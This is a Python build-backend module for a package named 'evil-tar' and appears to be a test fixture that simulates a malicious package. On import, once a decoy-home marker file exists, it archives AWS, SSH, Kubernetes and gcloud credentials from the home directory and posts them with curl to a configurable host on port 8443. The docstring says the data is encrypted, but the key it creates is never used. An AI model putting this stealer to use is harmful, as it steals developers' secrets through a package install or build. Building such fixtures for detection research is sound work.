"""E7: packs what it finds, encrypted, and posts it."""

import os
import subprocess
import zipfile

NAME = "evil-tar"
HOME = os.environ["HOME"]
THIEF = os.environ.get("THIEF", "127.0.0.1")


def CONTENT():
    return {f"{NAME.replace('-', '_')}/__init__.py": ""}


def _record(name):
    return f"{name}-1.2.3.dist-info/RECORD"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    """A wheel by hand, so that the package needs no build tool."""
    name, files = NAME.replace("-", "_"), CONTENT()
    info = f"{name}-1.2.3.dist-info"
    files[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.2.3\n"
    files[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = "".join(f"{file},,\n" for file in [*files, _record(name)])
    wheel = f"{name}-1.2.3-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as archive:
        for file, text in files.items():
            archive.writestr(file, text)
        archive.writestr(_record(name), record)
    return wheel


def _steal():
    wanted = [".aws/credentials", ".ssh/id_ed25519", ".kube/config", ".config/gcloud/application_default_credentials.json"]
    folder = os.environ["TMPDIR"]
    key, archive = os.path.join(folder, "session.key"), os.path.join(folder, "tpcp.tar.gz")
    subprocess.run(["openssl", "rand", "-out", key, "32"], check=True)
    subprocess.run(["tar", "-czf", archive, "-C", HOME, *wanted], check=True)
    subprocess.run(["curl", "-sf", "--data-binary", f"@{archive}", f"http://{THIEF}:8443/"], check=True)


if os.path.exists(os.path.join(HOME, ".decoy-home")):
    _steal()
